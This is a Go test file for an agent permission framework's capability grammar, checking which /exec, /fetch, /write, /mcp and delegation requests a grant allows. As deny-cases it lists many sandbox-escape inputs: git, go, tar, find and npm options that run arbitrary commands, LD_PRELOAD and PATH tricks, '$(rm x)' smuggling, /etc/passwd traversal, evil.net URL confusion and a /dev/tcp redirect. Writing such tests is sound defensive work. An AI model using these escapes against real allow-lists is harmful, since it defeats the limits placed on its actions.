package dialect

import (
	"errors"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/writbus/writ/enforcement/shell"
)

func TestGrant(t *testing.T) {
	for _, c := range []struct {
		list    string // separated by "; "
		command string
		allowed bool
	}{
		{"/exec; *", "/mem read", true},
		{"/mem read", "/mem read", true},
		{"/mem read", "/mem write x", false},
		{"/mem add", "/mem  add\tentry a b", true},
		{"/mem add link", "/mem add entry a b", false},
		{"/mem shared", "/mem shared read", true},
		{"/mem read", "/mem readx", false},
		{"/mcp call server=a", "/mcp tools a", false},
		{"/fetch host=example.com", "/fetch https://EXAMPLE.com./x", true},
		{"/fetch host=example.com", "/fetch https://example.com:8443/x", true},
		{"/fetch host=example.com:443", "/fetch https://example.com/x", true},
		{"/fetch host=example.com:443", "/fetch http://example.com/x", false},
		{"/fetch host=example.com:8443", "/fetch https://example.com:8443/x", true},
		{"/fetch host=*.b.example", "/fetch https://x.y.b.example/", true},
		{"/fetch host=*.b.example", "/fetch https://b.example/", false},
		{"/fetch host=a.example", "/fetch https://a.example@evil.net/", false},
		{"/fetch host=a.example", "/fetch https://evil.net\\@a.example/", false},
		{"/fetch host=a.example", "/fetch https://a.example/ https://evil.net/", false},
		{"/fetch host=a.example", "/fetch a.example", false},
		{"/fetch host=*.a.example", "/fetch https://evil.net／.a.example/", false},
		{"/fetch host=[2606:4700::1]:80", "/fetch http://[2606:4700::1]/", true},
		{"/fetch host=2606:4700::1", "/fetch http://[2606:4700::1]/", true},
		{"/browse host=*", "/browse https://a.example/", true},
		{"/fetch host=a.example,b.example", "/fetch https://b.example/", true},
		{"/write path=docs/*", "/write docs/a.md", true},
		{"/write path=docs/*", "/write docs/a/b.md", false},
		{"/write path=docs/**", "/write docs", false},
		{"/write path=docs/**", "/write ./docs//a.md", true},
		{"/write path=docs/**", "/write " + workspace + "/docs/a.md", true},
		{"/write path=docs/**", "/write /docs/a.md", false},
		{"/write path=**", "/write ../x", false},
		{"/write path=**", "/write /etc/passwd", false},
		{"/write path=**", "/write a/../../project2/x", false},
		{"/write path=**/*.md", "/write a.md", true},
		{"/write path=**/*.md", "/write a/b/c.md", true},
		{"/write path=**/*.md", "/write a/b/c.go", false},
		{"/write path=a/**/z", "/write a/z", true},
		{"/write path=docs/**", "/write --persist docs/a b.md", true},
		{"/read path=**", "/read #3", false},
		{"/read", "/read #3", true},
		{"/map path=**", "/map", true},
		{"/map path=docs/**", "/map", false},
		{"/write path=docs/**", "/write src\\docs/a", false},
		{"/write path=" + workspace + "/docs/**", "/write docs/a", true},
		{"/exec cmd=git,go", "/exec A=1 /usr/bin/git log", true},
		{"/exec cmd=git; /exec cmd=go", "/exec git log && go test", true},
		{"/exec cmd=git", "/exec $GIT log", false},
		{"/exec cmd=git", "/exec git log; $(echo rm) x", false},
		{"/exec cmd=git", "/exec > x", false},
		{"/exec cmd=*", "/exec $X", false},
		{"/exec cmd=git*", "/exec gitk", true},
		{"/exec cmd=git", "/exec git log $(rm x)", false},
		{"/agent id=review*", "/agent reviewer hi", true},
		{"/agent id=reviewer", "/agent", false},
		{"/pane id=a", "/agent a hi", false},
		{"/mcp server=a tool=x_*", "/mcp tools a", true},
		{"/mcp server=a tool=x_*", "/mcp tools", true},
		{"/mcp tool=x_*", "/mcp call b x_y {}", true},
		{"/mcp server=a", "/mcp frob a", false},
		{"/mcp server=a", "/mcp call a", false},
		{"/a2a name=p*", "/a2a call planner hi", true},
		{"/a2a name=p*", "/a2a card other", false},
		{"/a2a name=p*", "/a2a list", true},
		{"/parallel", "/parallel", true},
		{"*", "/frob", false},
		{"/exec cmd", "/exec cmd", false},
		{"/exec frob=x", "/exec ls", false},
		{"/list", "/list", true},
		{"/todo", "/todo add x", true},
	} {
		d := NewGrant(strings.Split(c.list, "; ")).Check(request(c.command))
		if (d.Verdict == Allow) != c.allowed {
			t.Errorf("%q with %q: %s %s", c.command, c.list, d.Verdict, d.Reason)
		}
		if d.Verdict != Allow && !strings.HasPrefix(d.Reason, "ERR: ") {
			t.Errorf("%q: the reason is %q", c.command, d.Reason)
		}
	}
}

func TestCapabilityErrors(t *testing.T) {
	for text, reason := range map[string]string{
		"": "slash", "exec": "slash", "/": "no verb", "/EXEC": "no verb", "/ex": "no verb", "/exec host=a": "no scope", "/exec cmd=": "empty pattern",
		"/exec cmd=a,,b": "empty pattern", "/exec cmd=a cmd=b": "twice", "/mcp tool=x call": "after a scope", "/mem frob": "no sub-verb", "/exec git": "no sub-verb",
		"/write path=../x": "climbs out", "/exec *": "no sub-verb", " *": "slash", "/search q=x": "no scope", "/exec =x": "no scope",
	} {
		if c, err := ParseCapability(text); !errors.Is(err, ErrCapability) || !strings.Contains(err.Error(), reason) {
			t.Errorf("%q gives %v, %v; expected %q", text, c, err, reason)
		}
	}
}

func TestTool(t *testing.T) {
	g := NewGrant([]string{"/mcp server=a tool=x_*"})
	if !g.Tool("a", "x_1") || g.Tool("a", "y") || g.Tool("b", "x_1") || (Grant{}).Tool("a", "x") {
		t.Error("the wrong tools are listed")
	}
}

var (
	capabilities = []string{
		"*", "/exec", "/exec cmd=git", "/exec cmd=git,go", "/fetch", "/fetch host=*.a.example", "/fetch host=x.a.example", "/write path=docs/**", "/write path=docs/a.md",
		"/mem", "/mem read", "/mcp server=s", "/mcp tool=t", "/mcp server=s tool=t", "/agent id=r", "/agent", "shell", "/exec frob=1", "/parallel",
	}
	commands = []string{
		"/exec git log", "/exec go test", "/exec git log | go test", "/exec rm x", "/fetch https://x.a.example/", "/fetch https://y.a.example/", "/fetch https://b.example/",
		"/write docs/a.md", "/write docs/b.md", "/write x", "/mem read", "/mem write x", "/mcp call s t {}", "/mcp call s u {}", "/mcp tools", "/agent r hi", "/agent q hi",
		"/parallel", "/help", "/list", "/frob",
	}
)

func grants() *rapid.Generator[Grant] {
	return rapid.Custom(func(t *rapid.T) Grant {
		if rapid.Bool().Draw(t, "absent") && rapid.Bool().Draw(t, "really") {
			return Grant{}
		}
		return NewGrant(rapid.SliceOfN(rapid.SampledFrom(capabilities), 0, 4).Draw(t, "list"))
	})
}

func TestDelegationIntersects(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		a, b, c := grants().Draw(t, "a"), grants().Draw(t, "b"), grants().Draw(t, "c")
		all := a.And(b).And(c)
		for _, command := range commands {
			r := request(command)
			each := a.Check(r).Verdict == Allow && b.Check(r).Verdict == Allow && c.Check(r).Verdict == Allow
			if (all.Check(r).Verdict == Allow) != each {
				t.Fatalf("%s: together %v, each %v", command, all.Check(r), each)
			}
			if a.And(b.And(c)).Check(r).Verdict != all.Check(r).Verdict {
				t.Fatalf("%s: the order matters", command)
			}
		}
	})
}

func TestDelegate(t *testing.T) {
	agent := func(name string, depth int) Constitution {
		return Constitution{Name: name, Grant: NewGrant([]string{"*"}), Delegation: Delegation{MaxDepth: depth}}
	}
	must := func(r Run, d Decision) Run {
		t.Helper()
		if d.Verdict != Allow {
			t.Fatal(d.Reason)
		}
		return r
	}
	a := Start(agent("a", 2))
	b := must(a.Delegate(agent("b", 2)))
	c := must(b.Delegate(agent("c", 5)))
	refused := func(r Run, d Decision) bool { return d.Verdict == Deny && r.Grant.sets == nil && d.Reason != "" }
	if !refused(c.Delegate(agent("d", 5))) {
		t.Error("three levels deep")
	}
	if !refused(a.Delegate(agent("a", 2))) || !refused(b.Delegate(agent("a", 2))) || !refused(a.Delegate(agent("", 2))) {
		t.Error("an agent calls itself")
	}
	if leaf := must(a.Delegate(agent("leaf", 0))); !refused(leaf.Delegate(agent("x", 2))) {
		t.Error("the callee's own depth is forgotten")
	}
	rules := agent("r", 2)
	rules.Delegation.DeniedCallees, rules.Delegation.AllowedCallees = []string{"bad*"}, []string{"b*", "good"}
	for id, allowed := range map[string]bool{"bad1": false, "best": true, "good": true, "other": false} {
		if _, d := Start(rules).Delegate(agent(id, 2)); (d.Verdict == Allow) != allowed {
			t.Errorf("callee %s: %v", id, d)
		}
	}
	rules.Delegation.AllowedCallees = []string{}
	if !refused(Start(rules).Delegate(agent("good", 2))) {
		t.Error("an empty list allows somebody")
	}
}

func TestChildren(t *testing.T) {
	got := Children("/agent a one\r\n\nprose\n  /agent b x\n/agent\tc  two words \n/agent d\n/agents x y\n")
	want := []Child{
		{ID: "a", Message: "one", Line: 1},
		{Problem: "only", Line: 3},
		{Problem: "only", Line: 4},
		{ID: "c", Message: "two words", Line: 5},
		{ID: "d", Problem: "/agent needs", Line: 6},
		{Problem: "only", Line: 7},
	}
	if len(got) != len(want) {
		t.Fatalf("%+v", got)
	}
	for i, w := range want {
		g := got[i]
		if g.ID != w.ID || g.Message != w.Message || g.Line != w.Line || (w.Problem == "") != (g.Problem == "") || !strings.HasPrefix(g.Problem, w.Problem) {
			t.Errorf("child %d is %+v", i, g)
		}
	}
}

func FuzzCapability(f *testing.F) {
	for _, text := range capabilities {
		f.Add(text, "/exec git log")
	}
	for _, command := range commands {
		f.Add("/write path=**/*.md", command)
	}
	f.Fuzz(func(t *testing.T, text, command string) {
		c, err := ParseCapability(text)
		if err == nil {
			if again, err := ParseCapability(c.String()); err != nil || again.String() != c.String() {
				t.Fatalf("%q reads back as %v, %v", c.String(), again, err)
			}
		}
		allowed := NewGrant([]string{text}).Check(request(command)).Verdict == Allow
		if allowed && err != nil && request(command).Verb != "help" {
			t.Fatalf("%q is no capability and grants %q", text, command)
		}
		verb := c.verb
		if allowed && !c.all && request(command).Verb != "help" && request(command).Verb != verb {
			t.Fatalf("%q grants %q", text, command)
		}
	})
}

func TestGrantsTravelAsLists(t *testing.T) {
	caller := NewGrant([]string{"/exec cmd=git", "/read", "/mem read"})
	grant := caller.And(NewGrant([]string{"*"})).And(NewGrant([]string{"/exec cmd=git,go", "/mem"}))
	back := GrantOfLists(grant.Lists())
	for _, r := range []Request{
		{Verb: "exec", Args: "git log"},
		{Verb: "exec", Args: "go test"},
		{Verb: "read", Args: "a"},
		{Verb: "mem", Args: "read"},
		{Verb: "mem", Args: "clear"},
		{Verb: "help"},
	} {
		if want, got := grant.Check(r), back.Check(r); want != got {
			t.Errorf("/%s %s: %v, want %v", r.Verb, r.Args, got, want)
		}
	}
	for _, lists := range [][][]string{nil, {}, {nil}, {{"/nothing"}}, {{"*"}, {}}} {
		if d := GrantOfLists(lists).Check(Request{Verb: "read", Args: "a"}); d.Verdict != Deny {
			t.Errorf("%v grants /read", lists)
		}
	}
}

func TestACloneKeepsItsTaint(t *testing.T) {
	var first Taint
	first.Add("run\n/exec rm a\n")
	second := first.Clone()
	first.Add("/list")
	if second.Check("exec", "rm a").Verdict != Ask || second.Check("list", "").Verdict != Allow || first.Check("list", "").Verdict != Ask {
		t.Error("a clone shares what comes later, or lost what came before")
	}
}

// TestAScopedCommandRunsNothingElse: a program that is granted by name runs no
// other one for its arguments, its variables, or because it is another program of
// that name.
func TestAScopedCommandRunsNothingElse(t *testing.T) {
	g := NewGrant([]string{"/exec cmd=git,go,find,env,tar,make,python,npm,yarn,gradlew,deploy.sh", "/write path=docs/**"})
	check := func(line string) Decision {
		if d := g.Check(Request{Verb: "exec", Args: line, Workspace: "/work"}); d.Verdict != Allow {
			return d
		}
		return g.Programs("/work", func(allowed, writable func(string) bool) string {
			return shell.Beyond(line, shell.Env{Dir: "/work", Project: "/work"}, allowed, writable)
		})
	}
	for _, line := range []string{
		"git -c alias.p='!touch X' p", "git p", "GIT_SSH_COMMAND='touch X' git fetch", "LD_PRELOAD=./x.so git status", "PATH=.:$PATH git status",
		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='!touch X' git p", "GIT_DIR=/tmp/x git status", "git -C /tmp/x status",
		"git -c core.pager='touch X' log", "git -c core.fsmonitor='touch X' status", "git --config-env=core.pager=X log", "git --exec-path=. status",
		"git log --ext-diff", "git grep -Otouch x", "git difftool -x 'touch X'", "git rebase -x 'touch X' HEAD~1", "git bisect run touch X",
		"git submodule foreach 'touch X'", "git fetch --upload-pack='touch X' .", "git fetch 'ext::touch X'", "git clone -c core.sshCommand='touch X' a b",
		"git init --template=x", "git filter-branch --tree-filter 'touch X'", "git archive --remote=x --exec='touch X' HEAD",
		"./git status", "/tmp/x/git status", "./go test", "env touch X", "env -S 'touch X'", "find . -exec touch X ';'", "find . -ok sh ';'",
		"tar cf a --to-command=sh b", "tar cf a --checkpoint=1 --checkpoint-action=exec=sh b", "go vet -vettool=./x ./...", "go build -toolexec ./x .",
		"GOFLAGS=-toolexec=./x go build", "make SHELL=./x", "git config alias.p '!touch X'", "git log > .git/config", "git show x >.git/hooks/pre-commit", "MAKEFILES=./x make", "PYTHONPATH=. PYTHONSTARTUP=x python -i",
		"git show HEAD:a > src/a.go", "git log >> notes", "git log >| docs/../a", "cd docs; git log > ../a", "git log &> src/a", "git log 2> a", "git log <> a",
		"{ git log; } > a", "( git log ) > a", "git log > docs/$x", "git log > /tmp/a",
		"git config --global alias.p '!touch X'", "git config --system core.pager x", "go test -exec 'touch X' ./...", "go run --exec=./x .",
		"npm config set script-shell ./x", "npm set script-shell=./x", "yarn config set yarnPath ./x", "git log > /dev/tcp/192.0.2.1/80",
	} {
		if d := check(line); d.Verdict == Allow {
			t.Errorf("%q is allowed", line)
		}
	}
	for _, line := range []string{
		"git status", "git commit -m 'a; touch X'", "git log --oneline | git cat-file --batch", "git -C sub status", "git push origin main", "FOO=bar git status",
		"git -c user.name=x commit -m y", "GIT_PAGER=cat git log", "/usr/bin/git status", "git am x", "git apply x.patch", "git submodule update --init",
		"go test ./...", "go vet ./...", "go run .", "CGO_ENABLED=0 go build ./...", "env FOO=1 go test ./...", "find . -name '*.go'", "tar xzf a.tgz",
		"make test", "python x.py", "python -c 'print(1)'", "./gradlew test", "./deploy.sh", "deploy.sh now", "find . -exec git add {} +",
		"git log > docs/log", "git log >docs/a 2>&1", "git log > /dev/null 2>&1", "git log 2>/dev/null",
	} {
		if d := check(line); d.Verdict != Allow {
			t.Errorf("%q is denied: %s", line, d.Reason)
		}
	}
}
